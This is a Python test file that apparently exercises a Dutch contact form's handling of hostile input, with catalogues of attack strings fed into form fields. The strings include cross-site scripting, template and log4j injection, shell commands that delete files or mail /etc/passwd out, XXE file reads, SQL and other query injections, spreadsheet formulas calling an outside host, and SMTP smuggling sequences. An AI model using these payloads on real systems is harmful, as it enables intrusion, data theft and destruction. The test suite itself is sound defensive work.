"""Text that is a program elsewhere: in a page, a template, a database, a shell, a sheet, a mail server."""

from tests.builders import TEXT
from tests.hostile.case import TAKEN, form, in_json

MARKUP = {
    "script": "<script>alert(1)</script>",
    "script from elsewhere": '<script src="https://elders.nl/x.js"></script>',
    "out of an attribute": '"><script>alert(1)</script>',
    "out of an attribute, single": "'><img src=x onerror=alert(1)>",
    "an event": '" onfocus="alert(1)" autofocus="',
    "an event without quotes": "x onmouseover=alert(1)",
    "out of the text field": "</textarea><script>alert(1)</script>",
    "out of the title": "</title><script>alert(1)</script>",
    "out of a comment": "--><script>alert(1)</script>",
    "an image": "<img src=x onerror=alert(1)>",
    "a drawing": "<svg/onload=alert(1)>",
    "a frame": '<iframe src="javascript:alert(1)"></iframe>',
    "a base": '<base href="https://elders.nl/">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://elders.nl">',
    "a form": '<form action="https://elders.nl"><input name=x>',
    "a style": "<style>*{background:url(https://elders.nl)}</style>",
    "a link of script": '<a href="javascript:alert(1)">x</a>',
    "a link of data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "broken": "<script\n>alert(1)</script\n>",
    "no end": "<script>alert(1)//",
    "twice": "<<script>script>alert(1)<</script>/script>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric entities": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "fullwidth": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "backticks": "`><img src=x onerror=alert(1)>",
    "template element": "<template><script>alert(1)</script></template>",
    "custom element": "<x-kwaad onclick=alert(1) tabindex=1 id=x>",
    "math": "<math><mi//xlink:href='javascript:alert(1)'>",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "polyglot": "jaVasCript:/*-/*`/*'/*\"/**/(/* */oNcliCk=alert() )//</titLe/</teXtarEa/</scRipt/--!>",
}
PROGRAMS = {
    "Jinja": "{{7*7}}",
    "Jinja, the configuration": "{{ config.items() }}",
    "Jinja, a class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "Jinja, a block": "{% for x in range(9) %}x{% endfor %}",
    "Jinja, a comment": "{# weg #}",
    "ERB": "<%= 7*7 %>",
    "Freemarker": "${7*7}",
    "Thymeleaf": "#{7*7}",
    "Velocity": "#set($x=7*7)$x",
    "log4j": "${jndi:ldap://elders.nl/x}",
    "str.format": "{0.__class__} {naam} {minutes} {label}",
    "percent format": "%s %d %n %x %(naam)s %99999999s",
    "a string.Template": "$naam ${naam} $$",
    "a shell": "; rm -rf / #",
    "a shell, substituted": "$(id) `id`",
    "a shell, piped": "| mail kwaad@elders.nl < /etc/passwd",
    "sendmail": "-X/var/www/x.php -OQueueDirectory=/tmp",
    "PHP": "<?php system('id'); ?>",
    "server-side include": '<!--#exec cmd="id" -->',
    "XML, an entity": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "LDAP": "*)(uid=*))(|(uid=*",
    "XPath": "' or count(/*)=1 or 'a'='b",
    "NoSQL": "{'$gt': ''}",
    "a path": "../../../../etc/passwd",
    "SQL, or": "' OR '1'='1",
    "SQL, comment": "x'; --",
    "SQL, drop": "x'); DROP TABLE messages; --",
    "SQL, union": "' UNION SELECT sqlite_version() --",
    "SQL, attach": "'; ATTACH DATABASE '/tmp/x.php' AS x; --",
    "SQL, slow": "' AND 1=randomblob(1000000000) --",
    "SQL, pg_sleep": "'; SELECT pg_sleep(10); --",
    "SQL, a parameter": "? ?1 :naam @naam $naam",
    "SQL, double quotes": '" OR ""="',
    "SQL, like": "%_\\%",
    "regular expression": "(a+)+$" + "a" * 40 + "!",
    "a log line": '{"event": "post", "outcome": "accepted"}',
    "two log lines": 'x\n{"event": "delivery", "outcome": "delivered"}',
    "a terminal": "[2J[1;1H",
    "a metric": 'x"} 99\nnabij_messages_total{outcome="accepted"} 99',
}
FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "a command": "=cmd|'/C calc'!A0",
    "a link": '=HYPERLINK("https://elders.nl?"&A1,"klik")',
    "an import": '=IMPORTXML("https://elders.nl","//a")',
    "a web service": '=WEBSERVICE("https://elders.nl")',
    "after a space": " =1+1",
    "after a tab": "\t=1+1",
    "after a line end": "\r\n=1+1",
    "after a quote": '"=1+1',
    "fullwidth": "\uff1d1+1",
    "of another separator": "x;=1+1",
    "a pipe": "|calc",
    "a percent": "%0A=1+1",
}
MAIL_ENDS = {
    "the end": "x\r\n.\r\nMAIL FROM:<kwaad@elders.nl>\r\nRCPT TO:<a@elders.nl>\r\nDATA\r\nx\r\n.\r\n",
    "LF . LF": "x\n.\nMAIL FROM:<kwaad@elders.nl>",
    "LF . CRLF": "x\n.\r\nMAIL FROM:<kwaad@elders.nl>",
    "CRLF . LF": "x\r\n.\nMAIL FROM:<kwaad@elders.nl>",
    "CR . CR": "x\r.\rMAIL FROM:<kwaad@elders.nl>",
    "CR . CRLF": "x\r.\r\nMAIL FROM:<kwaad@elders.nl>",
    "CRLF . CR": "x\r\n.\rMAIL FROM:<kwaad@elders.nl>",
    "CR LF . CR": "x\r\n.\r\r\nMAIL FROM:<kwaad@elders.nl>",
    "CRLF NUL . CRLF": "x\r\n\x00.\r\nMAIL FROM:<kwaad@elders.nl>",
    "CRLF . NUL CRLF": "x\r\n.\x00\r\nMAIL FROM:<kwaad@elders.nl>",
    "NEL . NEL": "x\u0085.\u0085MAIL FROM:<kwaad@elders.nl>",
    "LS . LS": "x\u2028.\u2028MAIL FROM:<kwaad@elders.nl>",
    "dots": ".\n..\n...\n.",
    "a dot first": ".\r\nRCPT TO:<kwaad@elders.nl>",
    "From, as an mbox": "From kwaad@elders.nl Thu Jan  1 00:00:00 1970",
    "RSET": "x\r\n.\r\nRSET\r\nQUIT",
    "BDAT": "x\r\nBDAT 5 LAST\r\nkwaad",
    "a header first": "Bcc: kwaad@elders.nl\r\n\r\nx",
    "a boundary": "--===============\r\nContent-Type: text/html\r\n\r\n<script>",
    "a signature": "x\r\n-- \r\nDe webmaster",
    "soft breaks": "x=\r\n.=\r\n=2E",
    "uuencode": "begin 644 kwaad.exe\n#0V%T\n`\nend",
    "one line of 5,000": "ja" * 2500,
}


def clean(text):
    """What is left of a payload whose line ends are mended and whose ends are stripped."""
    for end in ("\r\n", "\r", "\u0085", "\u2028"):
        text = text.replace(end, "\n")
    return text.replace("\x00", "").strip()


def longest_line(text):
    """A line of it that the mail must hold as it is."""
    return max(clean(text).split("\n"), key=len)


CASES = [
    *(
        form("markup", f"bericht, {name}", TAKEN, {"bericht": text}, says=clean(text))
        for name, text in MARKUP.items()
    ),
    *(
        form("markup", f"bericht, {name}, shown again", 422, {"bericht": text, "email": "ans@"})
        for name, text in MARKUP.items()
    ),
    *(form("markup", f"naam, {name}", TAKEN, {"naam": text[:100]}) for name, text in MARKUP.items()),
    *(
        form("markup", f"naam, {name}, shown again", 422, {"naam": text, "h-captcha-response": ""})
        for name, text in MARKUP.items()
    ),
    *(
        form("markup", f"{field}, {name}", 422, {field: text})
        for field in ("email", "telefoon", "onderwerp", "bereikbaar")
        for name, text in list(MARKUP.items())[:8]
    ),
    *(
        form("program", f"bericht, {name}", TAKEN, {"bericht": text}, says=clean(text))
        for name, text in PROGRAMS.items()
    ),
    *(in_json("program", f"naam, {name}", TAKEN, {"naam": text[:100]}) for name, text in PROGRAMS.items()),
    *(
        form("program", f"email, {name}", 422, {"email": text})
        for name, text in PROGRAMS.items()
        if name.startswith(("Jinja", "SQL", "a shell"))
    ),
    *(form("formula", f"naam, {name}", TAKEN, {"naam": text}) for name, text in FORMULAS.items()),
    *(
        form("formula", f"bericht, {name}", TAKEN, {"bericht": text}, says=clean(text))
        for name, text in FORMULAS.items()
    ),
    *(
        form("end of a mail", f"bericht, {name}", TAKEN, {"bericht": text}, says=longest_line(text))
        for name, text in MAIL_ENDS.items()
    ),
    *(
        form("end of a mail", f"naam, {name}", TAKEN, {"naam": text[:100]}, says=TEXT)
        for name, text in MAIL_ENDS.items()
    ),
]
